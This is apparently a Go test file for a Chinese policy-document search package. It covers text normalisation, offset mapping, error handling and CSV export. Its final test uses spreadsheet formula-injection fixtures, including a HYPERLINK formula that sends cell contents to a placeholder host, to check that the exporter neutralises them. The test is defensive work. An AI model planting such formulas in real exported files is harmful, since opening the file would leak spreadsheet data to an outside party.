package policysearch_test

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"policysearch"
)

func TestNormalize(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"", ""},
		{"产教融合", "产教融合"},
		{"１＋Ｘ证书", "1+X证书"},
		{"  职业\u3000\u3000教育 \t\n", "职业 教育"},
		{"赣府发﹝2020﹞16号", "赣府发〔2020〕16号"},
		{"（一）指导思想", "(一)指导思想"},
		{"a\u00a0b", "a b"},
		{"“双师型”", "“双师型”"}, // Chinese quotes are not ASCII variants: kept
		// Invisible characters inside a word are dropped, whatever their kind.
		{"产教\u200b融合", "产教融合"},                   // zero-width space
		{"产\u200d教\u200c融\u2060合\ufeff", "产教融合"}, // joiners, word joiner, BOM
		{"\u202a产教融合\u202c\u200e", "产教融合"},       // bidi embedding, mark
		{"\u2066产教\u2069融合", "产教融合"},             // bidi isolates
		{"产教\u00ad融合", "产教融合"},                   // soft hyphen
		{"产教\ufe0f融合\U000E0041", "产教融合"},         // variation selector, tag character
		{"产教\a融\x1b合\x00", "产教融合"},               // BEL, ESC, NUL
		{"产教\u2028融合", "产教融合"},                   // a broken line inside a Chinese word
		{"policy\u2028search", "policy search"},  // elsewhere a line separator is a space
		{"产教 \u2028融合", "产教 融合"},                 // a real space stays
		{" \u200b 职业 \u200b ", "职业"},
	} {
		if got := policysearch.Normalize(c.in); got != c.want {
			t.Errorf("Normalize(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// TestNormalizeMap: every byte of the normalised text maps back into the original, in
// order, onto a rune that folds to it; the last entry is the end of the content.
func TestNormalizeMap(t *testing.T) {
	for _, in := range []string{"", "  职业\u3000\u3000教育 ", "１＋Ｘ证书\n第二行", "abc", "\xffbad\xfe",
		"\u200b产教\u200b融合\u00ad ", "产教\u2028融合 a\u2029b\a"} {
		norm, offs := policysearch.NormalizeMap(in)
		if norm != policysearch.Normalize(in) {
			t.Errorf("NormalizeMap(%q) text %q, Normalize gives %q", in, norm, policysearch.Normalize(in))
		}
		if len(offs) != len(norm)+1 {
			t.Fatalf("%q: %d offsets for %d bytes", in, len(offs), len(norm))
		}
		for i := 0; i < len(norm); {
			r, size := utf8.DecodeRuneInString(norm[i:])
			o := offs[i]
			orig, _ := utf8.DecodeRuneInString(in[o:])
			if policysearch.FoldRune(orig) != r && !(r == ' ') {
				t.Errorf("%q: byte %d (%q) maps to %q", in, i, r, orig)
			}
			if i > 0 && offs[i] < offs[i-1] {
				t.Errorf("%q: offsets go backwards at %d", in, i)
			}
			i += size
		}
		if end := offs[len(norm)]; strings.TrimRightFunc(in[end:], func(r rune) bool { return unicode.IsSpace(r) || policysearch.Invisible(r) }) != "" && len(norm) > 0 {
			t.Errorf("%q: end offset %d leaves %q", in, end, in[end:])
		}
	}
}

func TestErrors(t *testing.T) {
	base := policysearch.Errorf(policysearch.ENOTFOUND, "no document %q", "x")
	wrapped := fmt.Errorf("handler: %w", base)
	if policysearch.ErrorCode(wrapped) != policysearch.ENOTFOUND || policysearch.ErrorMessage(wrapped) != `no document "x"` {
		t.Errorf("code %q message %q", policysearch.ErrorCode(wrapped), policysearch.ErrorMessage(wrapped))
	}
	plain := errors.New("open /secret/path: permission denied")
	if policysearch.ErrorCode(plain) != policysearch.EINTERNAL || strings.Contains(policysearch.ErrorMessage(plain), "/secret") {
		t.Errorf("an uncoded error must be internal without details: %q", policysearch.ErrorMessage(plain))
	}
	cause := errors.New("disk full")
	e := policysearch.WrapError(policysearch.EINTERNAL, cause, "cannot save")
	if !errors.Is(e, cause) || policysearch.ErrorCode(nil) != "" {
		t.Error("WrapError must keep its cause")
	}
}

func TestExportRow(t *testing.T) {
	h := policysearch.Hit{ID: "a-m1", Issuers: []string{"教育部", "财政部"}, SectionPath: []string{"一、", "（一）"}, Date: "2020-09-16", Text: "x,\"y\"\nz"}
	row := policysearch.ExportRow(h)
	if len(row) != len(policysearch.ExportColumns) {
		t.Fatalf("%d fields for %d columns", len(row), len(policysearch.ExportColumns))
	}
	col := map[string]string{}
	for i, c := range policysearch.ExportColumns {
		col[c] = row[i]
	}
	if col["issuers"] != "教育部；财政部" || col["year"] != "2020" || col["section_path"] != "一、 > （一）" || col["text"] != h.Text {
		t.Errorf("row %v", col)
	}
}

// A spreadsheet runs a cell that starts with a formula character; the export neutralises
// every such cell that comes from a document, and only those.
func TestExportRowNeutralisesFormulas(t *testing.T) {
	h := policysearch.Hit{
		ID:          "a-m1",
		DocTitle:    `=HYPERLINK("http://example.org/?leak="&A2,"打开")`,
		Issuers:     []string{"@SUM(1+1)"},
		SectionPath: []string{"+一、"},
		MeasureNo:   "-1",
		Kind:        "\tx",
		Region:      "\rcmd",
		Text:        "一、总体要求 =1+1",
		Score:       -0.5,
	}
	row := policysearch.ExportRow(h)
	col := map[string]string{}
	for i, c := range policysearch.ExportColumns {
		col[c] = row[i]
	}
	for _, c := range []string{"doc_title", "issuers", "section_path", "measure_no", "kind", "region"} {
		if !strings.HasPrefix(col[c], "'") {
			t.Errorf("%s = %q: not neutralised", c, col[c])
		}
	}
	if col["doc_title"] != "'"+h.DocTitle || col["text"] != h.Text || col["id"] != "a-m1" || col["score"] != "-0.5000" {
		t.Errorf("row %q", row)
	}
}
